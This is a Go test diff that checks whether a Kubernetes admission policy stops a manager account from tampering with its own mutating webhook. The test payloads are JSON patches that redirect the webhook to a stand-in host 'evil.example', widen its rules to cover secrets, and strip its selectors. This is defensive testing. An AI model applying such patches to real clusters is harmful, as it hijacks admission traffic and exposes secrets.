@@ -9,6 +9,7 @@ import (
 	"testing"
 	"time"
 
+	admissionv1 "k8s.io/api/admissionregistration/v1"
 	rbacv1 "k8s.io/api/rbac/v1"
 	apierrors "k8s.io/apimachinery/pkg/api/errors"
 	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
@@ -274,9 +275,11 @@ func TestPolicy(t *testing.T) {
 	}
 	w.guard(t, false)
 	t.Run("attacks succeed without the policy", func(t *testing.T) { run(t, false) })
+	t.Run("the webhook without the policy", func(t *testing.T) { w.webhook(t, false) })
 	w.wipe(t)
 	w.guard(t, true)
 	t.Run("attacks fail with the policy", func(t *testing.T) { run(t, true) })
+	t.Run("the webhook with the policy", func(t *testing.T) { w.webhook(t, true) })
 	t.Run("expressions are well typed", w.typed)
 	t.Run("honest people", w.honest)
 	t.Run("revoke", w.revoke)
@@ -316,6 +319,45 @@ func (w *policyWorld) attack(t *testing.T, a attack, kind string, guarded bool) 
 	}
 	if now.GetResourceVersion() != victim.GetResourceVersion() || now.GetUID() != victim.GetUID() {
 		t.Errorf("the victim was changed: %v", now.Object)
+	}
+}
+
+// webhook has the manager's account change its webhook's configuration in dry runs: the certificate's authority and nothing else, with the policy.
+func (w *policyWorld) webhook(t *testing.T, guarded bool) {
+	w.apply(t, "webhook.yaml")
+	defer w.remove(t, "webhook.yaml")
+	hooks := w.manager.dyn.Resource(admissionv1.SchemeGroupVersion.WithResource("mutatingwebhookconfigurations"))
+	for name, row := range map[string]struct {
+		patch string
+		harm  bool
+	}{
+		"authority": {`[{"op":"add","path":"/webhooks/0/clientConfig/caBundle","value":""},{"op":"add","path":"/webhooks/1/clientConfig/caBundle","value":""}]`, false},
+		"rules":     {`[{"op":"replace","path":"/webhooks/0/rules/0/resources","value":["*"]}]`, true},
+		"more rules": {`[{"op":"add","path":"/webhooks/0/rules/-","value":
+			{"apiGroups":[""],"apiVersions":["v1"],"operations":["*"],"resources":["secrets"]}}]`, true},
+		"selector":   {`[{"op":"replace","path":"/webhooks/0/namespaceSelector","value":{}}]`, true},
+		"address":    {`[{"op":"replace","path":"/webhooks/0/clientConfig","value":{"url":"https://evil.example/"}}]`, true},
+		"service":    {`[{"op":"replace","path":"/webhooks/0/clientConfig/service/namespace","value":"default"}]`, true},
+		"failures":   {`[{"op":"replace","path":"/webhooks/0/failurePolicy","value":"Fail"}]`, true},
+		"conditions": {`[{"op":"remove","path":"/webhooks/0/matchConditions"}]`, true},
+		"another": {`[{"op":"add","path":"/webhooks/-","value":
+			{"name":"more.doppel.dev","clientConfig":{"url":"https://evil.example/"},"admissionReviewVersions":["v1"],"sideEffects":"None","rules":[]}}]`, true},
+		"fewer": {`[{"op":"remove","path":"/webhooks/1"}]`, true},
+	} {
+		t.Run(name, func(t *testing.T) {
+			eventually(t, 10*time.Second, func() error { // the policy, and the right, may have just been made
+				_, err := hooks.Patch(t.Context(), "doppel-agent-injector-"+policyNS, types.JSONPatchType, []byte(row.patch), metav1.PatchOptions{DryRun: []string{metav1.DryRunAll}})
+				switch {
+				case !row.harm || !guarded:
+					return err
+				case err == nil:
+					return errors.New("it got through")
+				case !apierrors.IsForbidden(err) || !strings.Contains(err.Error(), "nothing of its webhook but"):
+					return fmt.Errorf("not refused as it should: %w", err)
+				}
+				return nil
+			})
+		})
 	}
 }
 
